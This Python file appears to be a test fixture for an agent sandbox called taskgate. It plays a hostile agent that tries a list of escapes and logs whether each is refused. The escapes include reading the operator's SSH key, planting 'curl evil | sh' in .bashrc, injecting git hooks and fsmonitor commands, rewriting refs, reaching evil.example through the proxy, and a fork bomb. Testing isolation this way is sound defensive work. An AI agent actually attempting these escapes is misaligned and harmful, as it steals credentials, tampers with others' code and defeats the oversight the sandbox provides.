"""A hostile agent: tries to get out of its sandbox every way issue 39 lists, prints one line per attempt
(`ATTEMPT <name>: refused (<why>)` or `ATTEMPT <name>: ALLOWED`), then does its own work and commits it.

Run by taskgate as an ordinary agent type, in its worktree:
    hostile_agent.py PROJECT OTHER_REPO OPERATOR_HOME OTHER_WORKTREE OTHER_BRANCH PORT [--bomb | --hog]
`--bomb` ends in a fork bomb, `--hog` in a 10 GiB allocation (each after committing its work)."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Callable


def attempt(name: str, action: Callable[[], object]) -> None:
    try:
        result = action()
    except (OSError, subprocess.CalledProcessError) as exc:
        why = getattr(exc, "stderr", None) or getattr(exc, "strerror", None) or str(exc)
        print(f"ATTEMPT {name}: refused ({str(why).strip().splitlines()[-1][:160]})", flush=True)
        return
    print(f"ATTEMPT {name}: ALLOWED {str(result)[:160]!r}", flush=True)


def write(path: str, text: str = "pwned\n") -> str:
    with open(path, "w") as handle:
        handle.write(text)
    return path


def read(path: str) -> str:
    with open(path) as handle:
        return handle.read()


def git(*args: str) -> str:
    return subprocess.run(["git", *args], capture_output=True, text=True, check=True).stdout


def connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as conn:
        conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
        data = conn.recv(100)
    if not data:
        raise ConnectionRefusedError(111, "closed without an answer")
    return data.decode(errors="replace")


def connect_to(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as conn:
        data = conn.recv(100)
    if not data:
        raise ConnectionRefusedError(111, "closed without an answer")
    return data.decode(errors="replace")


def through_proxy(target: str) -> str:
    """CONNECT through the proxy taskgate gives the agent (HTTPS_PROXY), as an HTTP client would."""
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        raise ConnectionRefusedError(111, "no proxy at all")
    host, _, port = proxy.removeprefix("http://").rstrip("/").rpartition(":")
    with socket.create_connection((host, int(port)), timeout=3) as conn:
        conn.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = conn.recv(200).decode(errors="replace")
    if " 200 " not in answer.split("\r\n")[0]:
        raise PermissionError(13, answer.split("\r\n")[0])
    return answer


def main(argv: list[str]) -> int:
    project, other_repo, home, other_worktree, other_branch, port = argv[:6]
    head = git("rev-parse", "HEAD").strip()
    attempt("write-project-checkout", lambda: write(f"{project}/README.md"))
    attempt("write-other-repository", lambda: write(f"{other_repo}/pwned.txt"))
    attempt("write-home", lambda: write(f"{home}/.bashrc", "curl evil | sh\n"))
    attempt("read-ssh-key", lambda: read(f"{home}/.ssh/id_ed25519"))
    attempt("read-other-worktree", lambda: os.listdir(other_worktree) or read(f"{other_worktree}/README.md"))
    attempt("update-ref-main", lambda: git(f"--git-dir={project}/.git", "update-ref", "refs/heads/main", head))
    attempt("update-ref-other-branch",
            lambda: git(f"--git-dir={project}/.git", "update-ref", f"refs/heads/{other_branch}", head))  # fmt: skip
    attempt("push-main", lambda: git("push", project, "HEAD:refs/heads/main"))
    attempt("write-refs-main", lambda: write(f"{project}/.git/refs/heads/main", head + "\n"))
    attempt("write-packed-refs", lambda: write(f"{project}/.git/packed-refs", f"{head} refs/heads/main\n"))
    attempt("set-hooks-path", lambda: git("config", "core.hooksPath", "/tmp"))
    attempt("project-config", lambda: write(f"{project}/.git/config", "[core]\n\tfsmonitor = touch /tmp/x\n"))
    attempt("project-hook", lambda: write(f"{project}/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/x\n"))
    attempt("rewrite-dot-git", lambda: write(".git", "gitdir: ./evil\n"))
    attempt("rewrite-alternates", lambda: write(_git_dir() + "/objects/info/alternates", "/\n"))
    attempt("connect-unlisted-port", lambda: connect(int(port)))
    attempt("connect-outside", lambda: connect_to("10.1.2.3", 443))
    attempt("proxy-unlisted-host", lambda: through_proxy("evil.example:443"))
    # the agent's own work: still commits on its branch
    os.makedirs("work", exist_ok=True)
    write("work/hostile.md", "the agent's own work\n")
    git("add", "work/hostile.md")
    git(
        "-c",
        "user.name=hostile",
        "-c",
        "user.email=hostile@example.invalid",
        "commit",
        "-q",
        "-m",
        "feat: the hostile agent's own work",
    )
    print("OWN WORK COMMITTED", git("rev-parse", "--short", "HEAD").strip(), flush=True)
    if "--bomb" in argv:
        bomb()
    if "--hog" in argv:
        hog = bytearray(10 * 1024**3)  # 10 GiB, each page touched below
        for index in range(0, len(hog), 4096):
            hog[index] = 1
    return 0


def _git_dir() -> str:
    return git("rev-parse", "--absolute-git-dir").strip()


def bomb() -> None:
    """Fork forever: every child forks too."""
    while True:
        try:
            os.fork()
        except OSError:
            continue


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
